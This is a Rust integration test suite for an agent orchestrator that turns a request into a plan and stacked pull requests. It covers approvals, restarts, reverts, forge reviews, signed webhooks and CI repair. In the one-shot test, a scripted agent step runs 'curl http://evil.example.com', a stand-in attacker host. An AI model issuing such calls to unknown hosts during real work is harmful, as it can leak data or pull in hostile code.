//! From a wish to pull requests.

use agent::session::{
    BranchState, EventKind, ExecuteTarget, PullMode, Readiness, Request, StepState, WorkEvent,
};
use forge::fake::{Act, Line, Outcome};
use orchestrator::{FeedItem, SettingsChange};
use serde_json::json;

use crate::stage::{PLAN, Stage};

fn write(path: &str, text: &str) -> serde_json::Value {
    json!({ "write": { "path": path, "text": text } })
}

#[tokio::test(flavor = "multi_thread")]
async fn a_wish_becomes_a_plan_and_the_plan_becomes_stacked_pull_requests() {
    let playbook = json!([
        { "when": "(?s)Carry out this step.*Greet in French", "do": [write("fr.txt", "Bonjour\n")] },
        { "when": "(?s)Carry out this step.*Greet in German", "do": [write("de.txt", "Hallo\n")] },
        { "when": "Not done yet", "do": [write("de.txt", "Guten Tag\n")] },
        { "when": "(?s)Carry out this step.*List", "do": [{ "bash": "cat en.txt fr.txt de.txt > all.txt" }] },
        { "when": "Change what these steps left", "do": [write("fr.txt", "Bonjour, madame\n")] },
        { "when": "more ways", "do": [{ "think": "Two files." }, { "plan": PLAN }] },
    ]);
    let Some(stage) = Stage::open(playbook).await else { return };
    let id = stage.session("Say hello in more ways", |_| {}).await.record.id;
    let view = stage.until_quiet(id).await;
    assert_eq!(view.record.title, "Say hello in more ways");
    let plan = view.state.plan.clone().unwrap_or_else(|| panic!("a plan"));
    assert_eq!(plan.steps().len(), 3);

    let edited = "Greet in French\n\nAdd `fr.txt`, as one does in Paris.";
    let edit = Request::EditStep {
        expected_version: 1,
        step: "1".parse().unwrap(),
        text: edited.to_owned(),
    };
    assert_eq!(stage.ask(id, edit).await.state.version(), 2);
    let stale = Request::Approve { expected_version: 1 };
    assert!(stage.try_to_ask(id, stale).await.is_err());
    stage.ask(id, Request::Approve { expected_version: 2 }).await;
    stage.execute(id, ExecuteTarget::All).await;
    // `cat > file` is no reading command, so a person is asked.
    let view = stage.until(id, "an approval", |it| !it.approvals.is_empty()).await;
    let approval = view.state.approvals[0].id;
    let decision = agent::session::Decision::Allow;
    stage.ask(id, Request::Decide { approval, decision }).await;
    let state = stage.until_quiet(id).await.state;

    let steps = ["1", "2", "3"].map(|it| state.step_state(&it.parse().unwrap()));
    assert_eq!(steps, [StepState::Completed; 3], "{}", stage.story(id).await);
    let names: Vec<_> = state.branches.iter().map(|it| it.name.clone()).collect();
    let bases: Vec<_> = state.branches.iter().map(|it| it.base.clone()).collect();
    assert_eq!(bases, ["main", &names[0], &names[1]]);
    let pulls = stage.forge.pull_requests();
    let titles: Vec<_> = pulls.iter().map(|it| it["title"].as_str().unwrap()).collect();
    assert_eq!(titles, ["Greet in French", "Greet in German", "List the greetings"]);
    let body = pulls[1]["description"].as_str().unwrap();
    assert!(body.contains(&format!("http://hub.example.com/agents/{id}")), "{body}");
    assert!(body.contains("- [x] **2 Greet in German**"), "{body}");
    let all = stage.at_forge(&names[2], "all.txt").unwrap();
    assert_eq!(all, "Hello\nBonjour\nGuten Tag\n");
    let checked = |it: &EventKind| {
        let EventKind::Work(WorkEvent::Checked { failures, .. }) = it else {
            return None;
        };
        Some(failures.len())
    };
    assert_eq!(stage.of(id, checked).await, [1, 0]);
    let log = stage.log(&names[2]);
    assert!(log.contains("Co-authored-by: ada <ada@example.com>"), "{log}");
    assert!(log.contains("Runbook-Step: 3"), "{log}");

    let branch = state.branches[0].id;
    stage.ask(id, Request::Revise { branch, text: "Be polite".to_owned() }).await;
    let state = stage.until_quiet(id).await.state;
    assert_eq!(stage.forge.pull_requests().len(), 3);
    assert_eq!(stage.at_forge(&names[0], "fr.txt").unwrap(), "Bonjour, madame\n");
    assert_eq!(state.branches[0].request.as_ref().unwrap().number, 1);

    let diff = stage.agents.diff(stage.ada, id, &"2".parse().unwrap()).await.unwrap().unwrap();
    assert!(diff.text().contains("+Guten Tag"), "{}", diff.text());
}

#[tokio::test(flavor = "multi_thread")]
async fn a_session_goes_on_with_the_same_step_after_its_server_was_ended() {
    let playbook = json!([
        { "when": "(?s)Carry out this step.*French", "do": [
            { "bash": "test -e en.txt && ls" }, write("fr.txt", "Bonjour\n"), { "hang": {} },
        ] },
        { "when": "ways", "do": [{ "plan": PLAN }] },
    ]);
    let Some(mut stage) = Stage::open(playbook).await else { return };
    let id = stage.session("Say hello in more ways", |_| {}).await.record.id;
    stage.until_quiet(id).await;
    stage.execute(id, ExecuteTarget::Next).await;
    let wrote = |it: &EventKind| {
        let text = serde_json::to_string(it).unwrap();
        text.contains("tool_ended").then_some(())
    };
    stage.until(id, "work", |it| it.running.is_some()).await;
    while stage.of(id, wrote).await.len() < 2 {
        stage.until(id, "more", |_| true).await;
        tokio::task::yield_now().await;
    }
    let before = stage.view(id).await.state;
    stage.set_playbook(json!([
        { "when": "(?s)Carry out this step.*French", "do": [
            // What the last attempt had written is gone: each begins with a clean checkout.
            { "sneak": "test ! -e fr.txt && printf clean > seen.txt" }, write("fr.txt", "Bonjour\n"),
        ] },
    ]));
    stage.restart().await;
    let state = stage.until_quiet(id).await.state;
    let step = "1".parse().unwrap();
    assert_eq!(state.step_state(&step), StepState::Completed, "{}", stage.story(id).await);
    assert!(state.seq > before.seq);
    let branch = &state.branches[0].name;
    assert_eq!(stage.at_forge(branch, "fr.txt").unwrap(), "Bonjour\n");
    assert_eq!(stage.at_forge(branch, "seen.txt").unwrap(), "clean");
    assert_eq!(stage.forge.pull_requests().len(), 1);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_one_shot_session_asks_nobody_and_ends_with_one_pull_request_that_is_ready() {
    let playbook = json!([
        { "when": "(?s)Carry out this step.*French", "do": [write("fr.txt", "Bonjour\n")] },
        { "when": "(?s)Carry out this step.*German", "do": [write("de.txt", "Guten Tag\n")] },
        { "when": "(?s)Carry out this step.*List", "do": [{ "bash": "curl http://evil.example.com" }, write("all.txt", "x\n")] },
        { "when": "ways", "do": [{ "ask": "Which ways?" }, { "plan": PLAN }] },
    ]);
    let Some(stage) = Stage::open(playbook).await else { return };
    let one_shot = |it: &mut agent::session::Settings| {
        it.pace = agent::session::Pace::OneShot;
        it.labels = vec!["agent".to_owned()];
        it.description = Some("Asked for in the corridor.".to_owned());
    };
    let id = stage.session("Say hello in more ways", one_shot).await.record.id;
    let is_done = |it: &agent::session::State| {
        it.branches.first().is_some_and(|it| it.readiness == Readiness::Ready)
    };
    stage.until(id, "a pull request that is ready", is_done).await;
    let pulls = stage.forge.pull_requests();
    assert_eq!(pulls.len(), 1);
    assert_eq!(pulls[0]["title"], "Greetings");
    assert_eq!(pulls[0]["draft"], false);
    let body = pulls[0]["description"].as_str().unwrap();
    assert!(body.starts_with("Asked for in the corridor."), "{body}");
    let branch = stage.view(id).await.state.branches[0].name.clone();
    assert_eq!(stage.at_forge(&branch, "all.txt").unwrap(), "x\n");
}

#[tokio::test(flavor = "multi_thread")]
async fn completed_steps_are_taken_back_at_the_forge() {
    let playbook = json!([
        { "when": "(?s)Carry out this step.*French", "do": [write("fr.txt", "Bonjour\n")] },
        { "when": "(?s)Carry out this step.*German", "do": [write("de.txt", "Guten Tag\n")] },
        { "when": "ways", "do": [{ "plan": PLAN }] },
    ]);
    let Some(stage) = Stage::open(playbook).await else { return };
    let single = |it: &mut agent::session::Settings| it.pull_mode = PullMode::Single;
    let id = stage.session("Say hello in more ways", single).await.record.id;
    stage.until_quiet(id).await;
    stage.execute(id, ExecuteTarget::Through("2".parse().unwrap())).await;
    let state = stage.until_quiet(id).await.state;
    let branch = state.branches[0].name.clone();
    assert!(stage.at_forge(&branch, "de.txt").is_some());
    stage.ask(id, Request::Revert { from: "2".parse().unwrap() }).await;
    let state = stage.until_quiet(id).await.state;
    assert_eq!(state.step_state(&"2".parse().unwrap()), StepState::NotStarted);
    assert_eq!(stage.at_forge(&branch, "de.txt"), None);
    assert!(stage.at_forge(&branch, "fr.txt").is_some());
    stage.ask(id, Request::Revert { from: "1".parse().unwrap() }).await;
    let state = stage.until_quiet(id).await.state;
    assert_eq!(state.branches[0].state, BranchState::Closed);
    assert_eq!(stage.forge.pull_requests()[0]["state"], "closed");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_session_that_was_paused_finds_its_files_and_its_conversation_again() {
    let playbook = json!([
        { "when": "remember", "do": [
            { "sneak": "echo 42 > \"$HOME/memory\"" }, { "say": "I will." },
        ] },
        { "when": "what", "do": [{ "bash": "cat \"$HOME/memory\"" }] },
    ]);
    let Some(stage) = Stage::open(playbook).await else { return };
    let id = stage.session("Please remember", |_| {}).await.record.id;
    stage.until_quiet(id).await;
    stage.ask(id, Request::Pause).await;
    stage.ask(id, Request::Say { text: "what was it?".to_owned() }).await;
    stage.until_quiet(id).await;
    assert!(stage.story(id).await.contains("\"output\":\"42\\n\""), "{}", stage.story(id).await);
}

#[tokio::test(flavor = "multi_thread")]
async fn what_is_written_is_shown_before_the_whole_is_stored() {
    let playbook = json!([{ "when": "hello", "do": [{ "say": "A greeting in several pieces." }] }]);
    let Some(stage) = Stage::open(playbook).await else { return };
    let settings = agent::session::Settings::new("main");
    let new = orchestrator::NewSession {
        repository: stage.repository,
        prompt: "hello".to_owned(),
        title: None,
        settings,
        began: orchestrator::Began::Api,
        author: None,
    };
    let id = stage.agents.open(stage.ada, new).await.unwrap().record.id;
    let feed = stage.feed(id, 6).await;
    let mut last = 0;
    for item in &feed {
        if let FeedItem::Event(event) = item {
            assert_eq!(event.seq, last + 1);
            last = event.seq;
        }
    }
    stage.until_quiet(id).await;
    let said = |it: &EventKind| {
        let EventKind::Work(WorkEvent::Said { text, .. }) = it else {
            return None;
        };
        Some(text.clone())
    };
    assert_eq!(stage.of(id, said).await, ["A greeting in several pieces."]);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_review_at_the_forge_becomes_a_commit_on_the_same_pull_request() {
    let playbook = json!([
        { "when": "(?s)Carry out this step.*French", "do": [write("fr.txt", "Bonjour\n")] },
        { "when": "(?s)Change what these steps left.*as one does at night", "do": [write("fr.txt", "Bonsoir\n")] },
        { "when": "ways", "do": [{ "plan": PLAN }] },
    ]);
    let Some(stage) = Stage::open(playbook).await else { return };
    let id = stage.session("Say hello in more ways", |_| {}).await.record.id;
    stage.until_quiet(id).await;
    stage.execute(id, ExecuteTarget::Next).await;
    let name = stage.until_quiet(id).await.state.branches[0].name.clone();
    let line = Line { path: "fr.txt".to_owned(), line: 1, body: "as one does at night".to_owned() };
    let review =
        Act::Review { number: 1, by: "lin".to_owned(), body: String::new(), lines: vec![line] };
    stage.happens(review).await;
    let stranger =
        Act::Comment { number: 1, by: "eve".to_owned(), body: "/runbook revise".to_owned() };
    stage.happens(stranger).await;
    assert!(stage.view(id).await.state.running.is_none(), "strangers order nothing");
    let order =
        Act::Comment { number: 1, by: "lin".to_owned(), body: "/runbook revise".to_owned() };
    let webhooks = stage.forge.act(order);
    for _ in 0..2 {
        // A forge that got no answer delivers again.
        for webhook in &webhooks {
            stage.receive(webhook).await.unwrap();
        }
    }
    stage.until_quiet(id).await;
    assert_eq!(stage.at_forge(&name, "fr.txt").unwrap(), "Bonsoir\n", "{}", stage.story(id).await);
    assert_eq!(stage.forge.pull_requests().len(), 1);
    let revised = |it: &EventKind| {
        let text = serde_json::to_string(it).unwrap();
        (text.contains("queued") && text.contains("review")).then_some(())
    };
    assert_eq!(stage.of(id, revised).await.len(), 1);
    let mut forged = webhooks[0].clone();
    forged.body = forged.body.replace("revise", "revise more");
    assert!(stage.receive(&forged).await.is_err(), "what is not signed is not taken");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_check_that_fails_at_the_forge_is_mended_and_a_merge_ends_the_session() {
    let playbook = json!([
        { "when": "(?s)Carry out this step", "do": [write("fr.txt", "Bonjour\n")] },
        { "when": "(?s)a check that fails at the forge.*no greeting", "do": [write("fr.txt", "Salut\n")] },
        { "when": "ways", "do": [{ "plan": "# One\n\n## 1. Greet\n\nIn `fr.txt`.\n" }] },
    ]);
    let Some(stage) = Stage::open(playbook).await else { return };
    let id = stage.session("Say hello in more ways", |_| {}).await.record.id;
    stage.until_quiet(id).await;
    stage.execute(id, ExecuteTarget::All).await;
    let state = stage.until_quiet(id).await.state;
    let (name, commit) = (state.branches[0].name.clone(), state.branches[0].head.clone());
    stage
        .happens(Act::Check {
            commit,
            name: "test".to_owned(),
            outcome: Outcome::Failure,
            log: Some("fr.txt: no greeting\n".to_owned()),
        })
        .await;
    let is_mended =
        |it: &agent::session::State| it.branches[0].ci_attempts == 1 && it.running.is_none();
    stage.until(id, "a mended branch", is_mended).await;
    assert_eq!(stage.at_forge(&name, "fr.txt").unwrap(), "Salut\n", "{}", stage.story(id).await);
    stage.happens(Act::Merge { number: 1 }).await;
    let is_over = |it: &agent::session::State| it.lifecycle == agent::session::Lifecycle::Archived;
    stage.until(id, "the archive", is_over).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_session_begins_at_the_default_branch_of_its_repository_unless_another_is_chosen() {
    let Some(stage) = Stage::open(json!([])).await else { return };
    stage.git(&["checkout", "--quiet", "-b", "trunk"]);
    stage.write("trunk.txt", "here\n");
    stage.push("Elsewhere");
    let bare = stage.directory.path().join(format!("forge/{}.git", forge::fake::REPOSITORY));
    let bare = bare.to_str().unwrap();
    stage.git(&["--git-dir", bare, "symbolic-ref", "HEAD", "refs/heads/trunk"]);
    let target = async |change| {
        stage.agents.new_settings(stage.ada, stage.repository, change).await.unwrap().target_branch
    };
    assert_eq!(target(SettingsChange::default()).await, "trunk");
    let chosen = SettingsChange { target_branch: Some("main".to_owned()), ..Default::default() };
    assert_eq!(target(chosen).await, "main");
}
